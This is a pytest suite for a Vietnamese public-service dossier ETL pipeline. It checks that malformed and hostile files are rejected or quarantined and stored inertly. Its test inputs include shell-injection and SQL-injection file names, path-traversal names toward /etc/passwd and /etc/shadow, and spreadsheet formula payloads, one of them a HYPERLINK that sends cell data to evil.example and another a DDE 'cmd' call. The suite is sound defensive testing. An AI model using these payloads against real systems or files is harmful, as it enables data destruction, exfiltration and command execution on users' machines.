"""The bad-input corpus (tests/fixtures/bad/README.md): malformed and hostile files loaded in ONE run together with
valid files. Each bad file gets a clear error naming it, or its bad rows are quarantined with a reason; the valid
files load exactly as they do alone; the audit tables account for every file and every row.

Cases marked xfail are defects found by the corpus (the desired behaviour is asserted; see the README)."""
from __future__ import annotations

import importlib.util
import json
import os
import resource
import shutil
import subprocess
import sys
import unicodedata
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import pytest

from conftest import FIXTURES, fresh_warehouse, query
from etl.config import REPO_ROOT
from etl.pipeline import ingest

BAD = FIXTURES / "bad"
SMALL = FIXTURES / "small"
VALID = ("don-vi-hanh-chinh.csv", "danh-muc-tthc.csv", "ho-so-hoang-cat-2024-01.json")
NOT_CASES = ("README.md", "make_corpus.py")
LOAD_DATE = date(2024, 4, 1)
MAX_BAD_ROW_SHARE = "0.5"  # the valid dossier file has 3 bad rows of 13 on purpose
MAX_RSS_BYTES = 1_500_000_000

_spec = importlib.util.spec_from_file_location("make_corpus", BAD / "make_corpus.py")
corpus_maker = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(corpus_maker)
SQL = corpus_maker.SQL


def listing(case: int, rows: int = 3, **cells) -> str:
    return corpus_maker.listing_csv([corpus_maker.listing_row(case, n, **cells) for n in range(1, rows + 1)])


# made at test time (too big to commit, or names a checkout on Windows/macOS would not keep)
HUGE_CELL_CSV = "o-10MB.csv"
HUGE_CELL_JSON = "o-10MB.json"
DEEP_JSON = "long-nhau-sau.json"
BACKSLASH_NAME = "ho-so\\..\\..\\etc\\passwd.csv"  # a Windows path kept as a name: "\\" is no separator here
HIDDEN_NAME = "..\\..\\etc\\shadow.csv"  # starts with "." : a hidden file, skipped by pipeline.expand
SHELL_NAME = "$(reboot); rm -rf ~ `id` | tee.csv"
NFD_NAME = unicodedata.normalize("NFD", "Hồ sơ Hoằng Cát tháng 3 (tổ hợp).csv")
SQL_NAME = "x'; DROP TABLE audit.landed_file; --.csv"


def make_generated(folder: Path) -> None:
    big = "Nguyễn " * (10 * 1024 * 1024 // 9)  # ~10 MB of UTF-8 in one cell
    (folder / HUGE_CELL_CSV).write_text(listing(50, 3).replace('"Trần Văn Bình"', f'"{big}"', 1), encoding="utf-8")
    document = corpus_maker.payload([corpus_maker.dossier(51, n) for n in range(1, 4)]
                                    + [corpus_maker.dossier(51, 4, TrichYeuHoSo=big, GhiChu=big)])
    (folder / HUGE_CELL_JSON).write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
    depth = 200_000
    document = json.dumps(corpus_maker.payload([corpus_maker.dossier(52, 1, GhiChu=[])]))
    (folder / DEEP_JSON).write_text(document.replace('"GhiChu": []', '"GhiChu": ' + "[" * depth + "]" * depth))
    for case, name in ((53, BACKSLASH_NAME), (54, SHELL_NAME), (55, NFD_NAME), (56, SQL_NAME), (57, HIDDEN_NAME)):
        (folder / name).write_text(listing(case, 2), encoding="utf-8")


@dataclass(frozen=True)
class Case:
    error: str | None = None  # a fragment of the file-level error; None: the file loads
    rows: tuple[int, int, int] | None = None  # rows read, loaded, quarantined
    rules: dict | None = None  # quarantine rows per rule (one row per failing row and rule)
    xfail: str | None = None  # a defect: the desired behaviour above is not what happens
    ignored: bool = False  # not read, not landed, not recorded (a hidden file)


NOT_RECOGNISED = "không nhận ra định dạng tệp"
OVER_SHARE = "Tỷ lệ dòng bị cách ly vượt ngưỡng cho phép"
DATES = "ngay_tiep_nhan_dinh_dang"

CASES: dict[str, Case] = {
    # --- JSON sync payloads
    "json-cat-cut.json": Case("JSON không hợp lệ hoặc bị cắt cụt"),
    "json-cat-giua-ky-tu.json": Case("bị cắt cụt"),
    "json-goc-la-mang.json": Case('không phải gói đồng bộ hồ sơ: thiếu mảng "data"'),
    "json-data-khong-phai-mang.json": Case('không phải gói đồng bộ hồ sơ: thiếu mảng "data"'),
    "json-phan-tu-khong-phai-object.json": Case(rows=(10, 6, 4), rules={
        "ma_ho_so_bat_buoc": 4, "ma_tthc_bat_buoc": 4, "ma_don_vi_bat_buoc": 4, "trang_thai_bat_buoc": 4,
        "ngay_tiep_nhan_bat_buoc": 4}),
    "json-ma-la-so.json": Case(rows=(5, 4, 1), rules={"ma_ho_so_dang_van_ban": 1}),
    "json-ngay-khong-co-that.json": Case(rows=(11, 6, 5), rules={
        "ngay_nop_ho_so_dinh_dang": 1, DATES: 1, "ngay_hen_tra_dinh_dang": 1, "ngay_ket_thuc_xu_ly_dinh_dang": 1,
        "ngay_tiep_nhan_trong_lich": 1, "ngay_nop_ho_so_trong_lich": 1, "ngay_hen_tra_trong_lich": 1}),
    "json-phi-am.json": Case(rows=(5, 4, 1), rules={"phi_le_phi_khoang": 1}),
    "json-phi-khong-lo.json": Case(rows=(5, 4, 1), rules={"phi_le_phi_khoang": 1}),
    "json-phi-chu.json": Case(rows=(5, 4, 1), rules={"phi_le_phi_la_so": 1}),
    "json-khoa-trung-trong-object.json": Case(rows=(4, 3, 1), xfail=(
        "a dossier object with the key TrangThaiHoSo twice (4, then 10) is loaded with the last value: orjson keeps "
        "the last duplicate silently; detect duplicate keys (e.g. json.loads with object_pairs_hook on the records) "
        "and quarantine the row")),
    "json-ma-trung-trong-tep.json": Case(rows=(5, 4, 1), rules={"ma_ho_so_trung_trong_tep": 1}),
    "json-lien-tep-1-cu.json": Case(rows=(2, 2, 0)),
    "json-lien-tep-2-moi.json": Case(rows=(2, 2, 0)),
    # SQL in every text field: stored literally; SQL as the codes: quarantined (a code follows its pattern)
    "json-sql-moi-truong.json": Case(rows=(5, 4, 1), rules={
        "ma_ho_so_ky_tu": 1, "ma_tthc_ky_tu": 1, "ma_linh_vuc_ky_tu": 1, "ma_don_vi_ky_tu": 1}),
    "json-ky-tu-nul.json": Case(rows=(5, 4, 1), rules={"ky_tu_dieu_khien": 1}),
    "json-ky-tu-dieu-khien.json": Case(rows=(5, 4, 1), rules={"ky_tu_dieu_khien": 1}),
    "json-utf16-be.json": Case("không phải UTF-8"),
    "json-rong.json": Case("JSON không hợp lệ hoặc bị cắt cụt"),
    "json-dich-vu-khac.json": Case("không được hỗ trợ"),
    HUGE_CELL_JSON: Case(rows=(4, 4, 0)),
    DEEP_JSON: Case("JSON không hợp lệ"),
    # --- CSV dossier listings
    "csv-cat-giua-ngoac.csv": Case(rows=(3, 2, 1), rules={"ngay_tiep_nhan_bat_buoc": 1, "trang_thai_bat_buoc": 1}),
    "csv-ngoac-kep-khong-dong.csv": Case(rows=(5, 4, 1), rules={
        "hen_tra_sau_tiep_nhan": 1, "kenh_thuc_hien_hop_le": 1, "ket_thuc_sau_tiep_nhan": 1,
        "loai_doi_tuong_hop_le": 1, "ngay_tra_dinh_dang": 1, "phi_le_phi_la_so": 1, "trang_thai_bat_buoc": 1}),
    "csv-thua-cot.csv": Case(rows=(5, 4, 1), rules={
        "kenh_thuc_hien_hop_le": 1, "ngay_nop_ho_so_dinh_dang": 1, "phi_le_phi_la_so": 1, "trang_thai_hop_le": 1,
        "ma_linh_vuc_ky_tu": 1, "ma_don_vi_ky_tu": 1, "so_lan_bo_sung_la_so": 1}),
    "csv-thieu-cot-bat-buoc.csv": Case("dòng 5: thiếu cột bắt buộc: Trạng thái"),
    "csv-tieu-de-trung.csv": Case("Mã hồ sơ"),
    "csv-tieu-de-sai-dong.csv": Case(NOT_RECOGNISED),
    "csv-chi-co-tieu-de.csv": Case("Tệp không có dòng dữ liệu nào"),
    "csv-rong.csv": Case(NOT_RECOGNISED),
    "csv-tcvn3-mo-ho.csv": Case("không xác định được bảng mã của tệp: có thể là TCVN3 hoặc VNI"),
    "csv-tron-bang-ma.csv": Case("dòng 8: tệp có dòng không phải UTF-8"),
    "csv-byte-nul.csv": Case(rows=(5, 4, 1), rules={"ky_tu_dieu_khien": 1}),
    "csv-cong-thuc.csv": Case(rows=(6, 6, 0)),
    "csv-ngay-khong-co-that.csv": Case(rows=(12, 7, 5), rules={
        "ngay_nop_ho_so_dinh_dang": 3, DATES: 3, "ngay_tiep_nhan_trong_lich": 2, "ngay_nop_ho_so_trong_lich": 2,
        "hen_tra_sau_tiep_nhan": 1, "ket_thuc_sau_tiep_nhan": 1}),
    "csv-phi-am.csv": Case(rows=(5, 4, 1), rules={"phi_le_phi_khoang": 1}),
    "csv-phi-khong-lo.csv": Case(rows=(5, 4, 1), rules={"phi_le_phi_khoang": 1}),
    "csv-vuot-nguong-dong-loi.csv": Case(OVER_SHARE),
    # SQL text in every column: stored nowhere as code; the row fails the codes' pattern, the value lists, the
    # fee and count rules
    "csv-sql-moi-cot.csv": Case(rows=(3, 2, 1), rules={
        "trang_thai_hop_le": 1, "kenh_thuc_hien_hop_le": 1, "loai_doi_tuong_hop_le": 1,
        "thanh_toan_truc_tuyen_hop_le": 1, "phi_le_phi_la_so": 1, "hinh_thuc_hop_le": 1,
        "so_hoa_thanh_phan_hop_le": 1, "ket_qua_dien_tu_hop_le": 1, "so_lan_bo_sung_la_so": 1,
        "ma_ho_so_ky_tu": 1, "ma_tthc_ky_tu": 1, "ma_linh_vuc_ky_tu": 1, "ma_don_vi_ky_tu": 1}),
    HUGE_CELL_CSV: Case("field larger than field limit"),
    BACKSLASH_NAME: Case(rows=(2, 2, 0)),
    SHELL_NAME: Case(rows=(2, 2, 0)),
    NFD_NAME: Case(rows=(2, 2, 0)),
    SQL_NAME: Case(rows=(2, 2, 0)),
    HIDDEN_NAME: Case(ignored=True),
    # --- reference lists
    "csv-don-vi-trung-ma.csv": Case(rows=(3, 2, 1), rules={"ma_dinh_danh_trung_trong_tep": 1}),
    "csv-don-vi-sql-cong-thuc.csv": Case(rows=(4, 3, 1), rules={"ma_dinh_danh_ky_tu": 1}),
    "csv-danh-muc-trung-ma.csv": Case(rows=(3, 2, 1), rules={"ma_tthc_trung_trong_tep": 1}),
    "csv-danh-muc-sai-kieu.csv": Case(rows=(5, 3, 2), rules={"thoi_han_la_so": 1, "muc_do_dvctt_hop_le": 1}),
    "csv-danh-muc-thoi-han-am.csv": Case(rows=(3, 2, 1), rules={"thoi_han_khong_am": 1}),
    # --- Excel
    "xlsx-cat-cut.xlsx": Case("không đọc được tệp Excel"),
    "xlsx-khong-phai-excel.xlsx": Case("không đọc được tệp Excel"),
    "~$ho-so-thang-3.xlsx": Case("không đọc được tệp Excel"),
    "xlsx-cong-thuc.xlsx": Case(rows=(6, 6, 0)),
    "xlsx-ngay-khong-co-that.xlsx": Case(rows=(7, 4, 3), rules={
        "ngay_nop_ho_so_dinh_dang": 1, DATES: 1, "ngay_tiep_nhan_trong_lich": 2, "ngay_nop_ho_so_trong_lich": 2,
        "hen_tra_sau_tiep_nhan": 1, "ket_thuc_sau_tiep_nhan": 1}),
    "xlsx-ma-la-so.xlsx": Case(rows=(4, 3, 1), rules={"ma_ho_so_dang_van_ban": 1}),
    # --- issue 14: values that stopped the run (TypeError), failed the whole file at COPY, or loaded silently
    # numbers that are not whole, or past any code, where a code or a count is expected
    "json-so-khong-nguyen.json": Case(rows=(13, 7, 6), rules={
        "trang_thai_hop_le": 2, "kenh_thuc_hien_hop_le": 1, "loai_doi_tuong_hop_le": 1,
        "thanh_toan_truc_tuyen_hop_le": 1, "hinh_thuc_hop_le": 1}),
    "csv-so-khong-nguyen.csv": Case(rows=(9, 5, 4), rules={
        "trang_thai_hop_le": 2, "kenh_thuc_hien_hop_le": 1, "so_lan_bo_sung_la_so": 1}),
    "xlsx-so-khong-nguyen.xlsx": Case(rows=(7, 4, 3), rules={"trang_thai_hop_le": 2, "so_lan_bo_sung_la_so": 1}),
    # a lone carriage return in text: kept, quoted in the staging CSV
    "json-xuong-dong-cr.json": Case(rows=(5, 5, 0)),
    "csv-xuong-dong-cr.csv": Case(rows=(4, 4, 0)),
    "xlsx-xuong-dong-cr.xlsx": Case(rows=(4, 4, 0)),
    # control characters in fields the format does not know (raw.dossier_extra, jsonb)
    "json-ky-tu-dieu-khien-truong-la.json": Case(rows=(7, 5, 2), rules={"ky_tu_dieu_khien": 2}),
    # beyond the declared ranges (smallint, numeric(8,2)), or negative
    "json-bo-sung-ngoai-khoang.json": Case(rows=(8, 5, 3), rules={"ngay_cho_bo_sung_khoang": 3}),
    "csv-so-lan-bo-sung-ngoai-khoang.csv": Case(rows=(7, 4, 3), rules={
        "so_lan_bo_sung_khoang": 2, "so_lan_bo_sung_la_so": 1}),
    "xlsx-so-lan-bo-sung-ngoai-khoang.xlsx": Case(rows=(5, 3, 2), rules={"so_lan_bo_sung_khoang": 2}),
    # events after the load date (01/04/2024, one day of tolerance) or outside the calendar
    "json-ngay-tuong-lai.json": Case(rows=(10, 6, 4), rules={
        "ngay_nop_ho_so_trong_lich": 1, "ngay_tra_sau_ngay_nap": 2, "ngay_ket_thuc_xu_ly_sau_ngay_nap": 1,
        "ngay_tra_trong_lich": 1}),
    "csv-ngay-tuong-lai.csv": Case(rows=(6, 4, 2), rules={
        "ngay_nop_ho_so_trong_lich": 1, "ngay_tiep_nhan_trong_lich": 1, "hen_tra_sau_tiep_nhan": 1,
        "ket_thuc_sau_tiep_nhan": 1, "ngay_tra_sau_ngay_nap": 1}),
    "xlsx-ngay-tuong-lai.xlsx": Case(rows=(4, 3, 1), rules={
        "ngay_ket_thuc_xu_ly_sau_ngay_nap": 1, "ngay_tra_sau_ngay_nap": 1}),
    # look-alike characters in codes (zero-width space, Cyrillic, full-width, U+FEFF)
    "json-ma-ky-tu-la.json": Case(rows=(11, 6, 5), rules={
        "ma_ho_so_ky_tu": 2, "ma_don_vi_ky_tu": 1, "ma_tthc_ky_tu": 1, "ma_linh_vuc_ky_tu": 1}),
    "csv-ma-ky-tu-la.csv": Case(rows=(7, 4, 3), rules={"ma_ho_so_ky_tu": 1, "ma_don_vi_ky_tu": 1, "ma_tthc_ky_tu": 1}),
    "xlsx-ma-ky-tu-la.xlsx": Case(rows=(5, 3, 2), rules={"ma_ho_so_ky_tu": 1, "ma_don_vi_ky_tu": 1}),
    "csv-don-vi-ma-ky-tu-la.csv": Case(rows=(5, 3, 2), rules={
        "ma_dinh_danh_ky_tu": 1, "ma_dvhc_ky_tu": 1, "ma_dvhc_dang_so": 1}),
    "csv-danh-muc-ma-ky-tu-la.csv": Case(rows=(5, 3, 2), rules={"ma_tthc_ky_tu": 2}),
    "csv-pakn-ngay-va-ma-sai.csv": Case(rows=(11, 6, 5), rules={
        "ngay_xu_ly_xong_sau_ngay_nap": 1, "ngay_tiep_nhan_sau_ngay_nap": 1, "ma_ho_so_ky_tu": 1,
        "ma_pakn_ky_tu": 1, "ma_don_vi_ky_tu": 1}),
    "csv-danh-gia-ngay-va-ma-sai.csv": Case(rows=(5, 3, 2), rules={"ngay_danh_gia_sau_ngay_nap": 1, "ma_ho_so_ky_tu": 1}),
    # a listing row with only its dossier code: read, and quarantined for the missing fields
    "csv-chi-co-ma-ho-so.csv": Case(rows=(4, 3, 1), rules={
        "ma_tthc_bat_buoc": 1, "ma_don_vi_bat_buoc": 1, "trang_thai_bat_buoc": 1, "ngay_tiep_nhan_bat_buoc": 1}),
    "xlsx-chi-co-ma-ho-so.xlsx": Case(rows=(4, 3, 1), rules={
        "ma_tthc_bat_buoc": 1, "ma_don_vi_bat_buoc": 1, "trang_thai_bat_buoc": 1, "ngay_tiep_nhan_bat_buoc": 1}),
}


@pytest.fixture(scope="module")
def corpus(admin_url, tmp_path_factory):
    """Every bad file and the three valid ones, in one folder, loaded in one run."""
    inbox = tmp_path_factory.mktemp("inbox")
    for path in BAD.iterdir():
        if path.name not in NOT_CASES:
            shutil.copy(path, inbox / path.name)
    make_generated(inbox)
    for name in VALID:
        shutil.copy(SMALL / name, inbox / name)
    with fresh_warehouse(admin_url, tmp_path_factory.mktemp("home")) as url, pytest.MonkeyPatch.context() as patch:
        patch.setenv("CCHC_MAX_BAD_ROW_SHARE", MAX_BAD_ROW_SHARE)
        summary = ingest([inbox], source="test", load_date=LOAD_DATE, progress=lambda _: None)
        results = {f.file: f for f in summary.files}
        yield url, inbox, summary, results


def test_the_corpus_has_a_case_for_every_file_and_is_small():
    committed = {p.name for p in BAD.iterdir() if p.name not in NOT_CASES}
    generated = {HUGE_CELL_CSV, HUGE_CELL_JSON, DEEP_JSON, BACKSLASH_NAME, SHELL_NAME, NFD_NAME, SQL_NAME,
                 HIDDEN_NAME}
    assert committed | generated == set(CASES)
    assert len(committed) >= 30
    assert all((BAD / name).stat().st_size < 50_000 for name in committed)
    readme = (BAD / "README.md").read_text(encoding="utf-8")
    missing = [name for name in CASES if "`" + name.replace("|", "\\|") + "`" not in readme]
    assert missing == []


def _case_params():
    for name, case in CASES.items():
        marks = [pytest.mark.xfail(strict=True, reason=case.xfail)] if case.xfail else []
        yield pytest.param(name, case, marks=marks, id=name)


@pytest.mark.parametrize("name, case", _case_params())
def test_each_bad_file_has_its_expected_outcome(corpus, name, case):
    url, _, _, results = corpus
    if case.ignored:
        assert name not in results
        assert query(url, "SELECT count(*) FROM audit.landed_file WHERE original_name = %s", (name,)) == [(0,)]
        return
    result = results[name]
    [(load_id, status, error)] = query(url, "SELECT l.load_id, l.status, l.error FROM audit.file_load l "
                                            "JOIN audit.landed_file f USING (file_id) WHERE f.original_name = %s",
                                       (name,))
    quarantined = dict(query(url, "SELECT rule, count(*) FROM audit.quarantine WHERE load_id = %s GROUP BY rule",
                             (load_id,)))
    if case.error:
        assert (result.status, status) == ("failed", "failed"), result
        assert case.error in result.error and result.error == error
        assert error.startswith(f"tệp {name}")
        assert quarantined == {}
        assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE %s IN (first_load_id, last_load_id)",
                     (load_id,)) == [(0,)]
    else:
        assert (result.status, status, result.error) == ("loaded", "loaded", None), result.error
        assert (result.rows_read, result.rows_loaded, result.rows_quarantined) == case.rows
        if case.rules is not None:
            assert quarantined == case.rules
        else:
            assert sum(quarantined.values()) >= case.rows[2]


def test_valid_files_load_exactly_as_they_do_alone(corpus):
    url, _, _, results = corpus
    units, catalogue, dossiers = (results[name] for name in VALID)
    assert (units.status, units.rows_read, units.rows_loaded, units.rows_inserted) == ("loaded", 4, 4, 4)
    assert (catalogue.status, catalogue.rows_read, catalogue.rows_loaded, catalogue.rows_inserted) == ("loaded", 3, 3, 3)
    assert (dossiers.status, dossiers.rows_read, dossiers.rows_loaded, dossiers.rows_quarantined,
            dossiers.rows_inserted, dossiers.rows_updated) == ("loaded", 13, 10, 3, 10, 0)
    assert dossiers.inferred == {"unit": 1, "procedure": 1, "dossiers_with_inferred_unit": 1,
                                 "dossiers_with_inferred_procedure": 1}
    assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE dossier_code LIKE '000.35.27.H56-240108-%%'") == [(10,)]
    assert query(url, "SELECT q.row_no, q.rule FROM audit.quarantine q WHERE q.load_id = %s ORDER BY 1",
                 (dossiers.load_id,)) == [(1, "ma_ho_so_trung_trong_tep"), (9, "ngay_tiep_nhan_bat_buoc"),
                                          (10, "ngay_hen_tra_dinh_dang")]
    assert query(url, "SELECT c.gso_code, p.gso_code FROM dw.dim_unit c LEFT JOIN dw.dim_unit p "
                      "ON p.unit_key = c.parent_unit_key WHERE c.unit_code IN "
                      "('000.00.00.H56', '000.00.27.H56', '000.35.27.H56', '000.31.27.H56') ORDER BY 1") == [
        ("15895", "399"), ("15907", "399"), ("38", None), ("399", "38")]


def test_the_audit_accounts_for_every_file_and_row(corpus):
    url, inbox, summary, _ = corpus
    load_ids = [f.load_id for f in summary.files]
    visible = sorted(p.name for p in inbox.iterdir() if not p.name.startswith("."))  # pipeline.expand skips the others
    assert len(summary.files) == len(visible) == len(CASES) + len(VALID) - 1
    assert sorted(r[0] for r in query(url, "SELECT original_name FROM audit.landed_file")) == visible
    loads = query(url, """
        SELECT f.original_name, l.status, l.rows_read, l.rows_loaded, l.rows_quarantined, l.error,
               (SELECT count(DISTINCT q.row_no) FROM audit.quarantine q WHERE q.load_id = l.load_id),
               (SELECT count(*) FROM audit.quarantine q WHERE q.load_id = l.load_id)
        FROM audit.file_load l JOIN audit.landed_file f USING (file_id) WHERE l.load_id = ANY(%s)""", (load_ids,))
    assert len(loads) == len(summary.files)
    for name, status, read, loaded, quarantined, error, rows_in_quarantine, quarantine_rows in loads:
        if status == "loaded":
            assert read == loaded + quarantined, name
            # audit.quarantine holds one row per (failing row, rule): count the rows, not the reasons
            assert rows_in_quarantine == quarantined, name
            assert quarantine_rows >= quarantined and error is None, name
        else:
            assert status == "failed" and quarantine_rows == 0, name
            assert error.startswith(f"tệp {name}") and "Traceback" not in error, error


def test_stored_paths_are_inside_the_landing_zone_under_its_own_names(corpus):
    url, _, _, _ = corpus
    landing = (Path(os.environ["CCHC_HOME"]) / "landing").resolve()
    rows = query(url, "SELECT original_name, stored_path, sha256 FROM audit.landed_file")
    for original, stored, sha in rows:
        path = Path(stored)
        assert path.resolve().parent == landing / "test", stored
        assert path.name.startswith(sha[:16] + "__") and unicodedata.is_normalized("NFC", path.name)
        assert not set(path.name) & set("\\/$`|;' ~"), path.name
        assert path.is_file() and len(path.name.encode()) <= 255
    assert query(url, "SELECT count(*) FROM audit.landed_file WHERE original_name = %s", (NFD_NAME,)) == [(1,)]


def test_sql_looking_text_is_stored_literally_and_tables_survive(corpus):
    url, _, _, _ = corpus
    code = corpus_maker.code(14, 4)
    assert query(url, "SELECT u.unit_code, p.procedure_code, a.applicant_name, a.phone, a.email, a.id_number "
                      "FROM dw.fact_dossier f JOIN dw.dim_unit u USING (unit_key) "
                      "JOIN dw.dim_procedure p USING (procedure_key) JOIN restricted.applicant a USING (dossier_code) "
                      "WHERE f.dossier_code = %s", (code,)) == [(corpus_maker.UNIT, corpus_maker.PROCEDURE) + (SQL,) * 4]
    assert query(url, "SELECT extra FROM raw.dossier_extra WHERE dossier_code = %s", (code,)) == [({"GhiChu": SQL},)]
    assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE dossier_code LIKE %s", (code[:-4] + "%",)) == [(4,)]
    # SQL as the codes (json-sql-moi-truong.json row 5, csv-don-vi-sql-cong-thuc.csv row 4): not a code, quarantined
    # with the characters named, and kept literally in the quarantine
    characters = ("ký tự U+0027 APOSTROPHE ở vị trí 1; ký tự U+003B SEMICOLON ở vị trí 2; "
                  "ký tự U+0020 SPACE ở vị trí 3 và 1 ký tự khác")
    assert query(url, "SELECT q.row_no, q.record_key, q.rule, q.value, q.record->>'ma_don_vi' FROM audit.quarantine q "
                      "JOIN audit.file_load l USING (load_id) JOIN audit.landed_file f ON f.file_id = l.file_id "
                      "WHERE f.original_name = 'json-sql-moi-truong.json' ORDER BY q.rule") == [
        (5, SQL, rule, characters, SQL)
        for rule in ("ma_don_vi_ky_tu", "ma_ho_so_ky_tu", "ma_linh_vuc_ky_tu", "ma_tthc_ky_tu")]
    for table, column in (("dw.fact_dossier", "dossier_code"), ("dw.dim_unit", "unit_code"),
                          ("dw.dim_procedure", "procedure_code")):
        assert query(url, f"SELECT count(*) FROM {table} WHERE {column} = %s", (SQL,)) == [(0,)]
    assert query(url, "SELECT unit_code, is_inferred FROM dw.dim_unit WHERE name = %s", (SQL,)) == [
        ("000.92.27.H56", False)]  # csv-don-vi-sql-cong-thuc.csv: SQL as a name is a name
    assert query(url, "SELECT error FROM audit.file_load l JOIN audit.landed_file f USING (file_id) "
                      "WHERE original_name = 'json-dich-vu-khac.json'")[0][0].count("DELETE FROM audit.file_load") == 1
    for table in ("dw.fact_dossier", "dw.dim_unit", "audit.file_load", "audit.landed_file"):
        assert query(url, "SELECT to_regclass(%s) IS NOT NULL", (table,)) == [(True,)]


def test_formulas_are_stored_as_inert_text_never_evaluated(corpus):
    url, _, _, _ = corpus
    formulas = ['=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")', "=1+1", "=cmd|' /C calc'!A0",
                "+SUM(1;2)", "@SUM(A1)", "-2+3"]
    csv_codes = [corpus_maker.code(28, n) for n in range(1, 7)]
    assert query(url, "SELECT a.applicant_name, u.name FROM restricted.applicant a JOIN dw.fact_dossier f USING (dossier_code) "
                      "JOIN dw.dim_unit u USING (unit_key) WHERE a.dossier_code = ANY(%s) ORDER BY a.dossier_code",
                 (csv_codes,)) == [(f, f) for f in formulas]
    # .xlsx: real formula cells are read as their cached value (none: openpyxl wrote no result) -> empty,
    # text cells that start with "=" keep their text
    xlsx_codes = [corpus_maker.code(42, n) for n in range(1, 7)]
    assert query(url, "SELECT applicant_name FROM restricted.applicant WHERE dossier_code = ANY(%s) ORDER BY dossier_code",
                 (xlsx_codes,)) == [(None,)] * 3 + [(f,) for f in formulas[:3]]
    assert query(url, "SELECT name FROM dw.dim_unit WHERE unit_code = '000.91.27.H56'") == [
        ('=HYPERLINK("http://evil.example","Xã")',)]


def test_carriage_returns_are_kept_as_sent(corpus):
    url, _, _, _ = corpus
    code = corpus_maker.code
    assert query(url, "SELECT dossier_code, applicant_name FROM restricted.applicant WHERE dossier_code = ANY(%s) ORDER BY 1",
                 ([code(64, 4), code(65, 4), code(66, 4)],)) == [
        (code(64, 4), "Nguyễn\rVăn A"), (code(65, 4), "Nguyễn\rVăn A"), (code(66, 4), "Nguyễn\rVăn A")]
    assert query(url, "SELECT email FROM restricted.applicant WHERE dossier_code = %s", (code(65, 4),)) == [
        ("a\r\nb@example.vn",)]
    assert query(url, "SELECT extra FROM raw.dossier_extra WHERE dossier_code = %s", (code(64, 5),)) == [
        ({"GhiChu": "ghi\rchú"},)]


def test_look_alike_codes_make_no_second_dossier_unit_or_procedure(corpus):
    url, _, _, _ = corpus
    for table, column in (("dw.fact_dossier", "dossier_code"), ("dw.dim_unit", "unit_code"),
                          ("dw.dim_procedure", "procedure_code"), ("dw.dim_field", "field_code"),
                          ("dw.fact_petition", "petition_code")):
        assert query(url, f"SELECT count(*) FROM {table} WHERE {column} !~ '^[A-Za-z0-9.-]+$'") == [(0,)], table
    assert query(url, "SELECT q.row_no, q.rule, q.column_name, q.value FROM audit.quarantine q "
                      "JOIN audit.file_load l USING (load_id) JOIN audit.landed_file f ON f.file_id = l.file_id "
                      "WHERE f.original_name = 'json-ma-ky-tu-la.json' ORDER BY 1") == [
        (7, "ma_ho_so_ky_tu", "ma_ho_so_ky_tu_la", "ký tự U+200B ZERO WIDTH SPACE ở vị trí 14"),
        (8, "ma_ho_so_ky_tu", "ma_ho_so_ky_tu_la", "ký tự U+041D CYRILLIC CAPITAL LETTER EN ở vị trí 11"),
        (9, "ma_don_vi_ky_tu", "ma_don_vi_ky_tu_la", "ký tự U+FF10 FULLWIDTH DIGIT ZERO ở vị trí 1"),
        (10, "ma_tthc_ky_tu", "ma_tthc_ky_tu_la", "ký tự U+FEFF ZERO WIDTH NO-BREAK SPACE ở vị trí 1"),
        (11, "ma_linh_vuc_ky_tu", "ma_linh_vuc_ky_tu_la", "ký tự U+200C ZERO WIDTH NON-JOINER ở vị trí 2")]


def test_events_after_the_load_date_are_quarantined_within_a_day_of_tolerance(corpus):
    url, _, _, _ = corpus
    codes = [corpus_maker.code(70, n) for n in range(1, 11)]
    assert [r[0] for r in query(url, "SELECT dossier_code FROM dw.fact_dossier WHERE dossier_code = ANY(%s) ORDER BY 1",
                                (codes,))] == codes[:5] + codes[7:8]  # 02/04/2024: the day after, accepted
    assert query(url, "SELECT max(source_event_at) < '2024-04-03' FROM dw.fact_dossier") == [(True,)]


def test_a_dossier_in_two_files_is_updated_by_the_later_one(corpus):
    url, _, _, results = corpus
    old, new = results["json-lien-tep-1-cu.json"], results["json-lien-tep-2-moi.json"]
    assert (old.rows_inserted, old.rows_updated, new.rows_inserted, new.rows_updated) == (2, 0, 1, 1)
    code = corpus_maker.code(13, 1)
    assert query(url, "SELECT f.status_code, f.last_load_id = %s, f.first_load_id = %s FROM dw.fact_dossier f "
                      "WHERE dossier_code = %s", (new.load_id, old.load_id, code)) == [(10, True, True)]
    assert query(url, "SELECT h.status_code FROM dw.fact_dossier_status_history h JOIN dw.fact_dossier f "
                      "USING (dossier_key) WHERE f.dossier_code = %s ORDER BY h.observed_at", (code,)) == [(4,), (10,)]


def test_a_file_over_the_bad_row_share_leaves_nothing(corpus):
    url, _, _, _ = corpus
    codes = [corpus_maker.code(31, n) for n in range(1, 5)]
    assert query(url, "SELECT count(*) FROM dw.fact_dossier WHERE dossier_code = ANY(%s)", (codes,)) == [(0,)]
    assert query(url, "SELECT count(*) FROM restricted.applicant WHERE dossier_code = ANY(%s)", (codes,)) == [(0,)]


def test_huge_values_stay_within_memory(corpus):
    url, _, _, results = corpus
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 < MAX_RSS_BYTES
    assert "dòng 6" in results[HUGE_CELL_CSV].error


def test_a_second_run_of_the_same_folder_changes_nothing(corpus):
    url, inbox, first, _ = corpus
    snapshot = """SELECT (SELECT count(*) FROM dw.fact_dossier), (SELECT max(updated_at) FROM dw.fact_dossier),
                         (SELECT count(*) FROM dw.dim_unit), (SELECT count(*) FROM dw.dim_procedure),
                         (SELECT count(*) FROM restricted.applicant), (SELECT count(*) FROM audit.quarantine),
                         (SELECT count(*) FROM audit.landed_file), (SELECT count(*) FROM dw.fact_dossier_status_history)"""
    before = query(url, snapshot)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CCHC_MAX_BAD_ROW_SHARE", MAX_BAD_ROW_SHARE)
        again = ingest([inbox], source="test", load_date=LOAD_DATE, progress=lambda _: None)
    assert query(url, snapshot) == before
    was = {f.file: f.status for f in first.files}
    assert {f.file: f.status for f in again.files} == {
        name: "skipped" if status == "loaded" else "failed" for name, status in was.items()}
    assert {f.file: f.error for f in again.failed} == {f.file: f.error for f in first.failed}


# --- files that would stop the shared run: each in its own warehouse -------------------------------------------

def test_a_very_long_vietnamese_file_name_is_landed_under_a_shorter_name(warehouse, tmp_path):
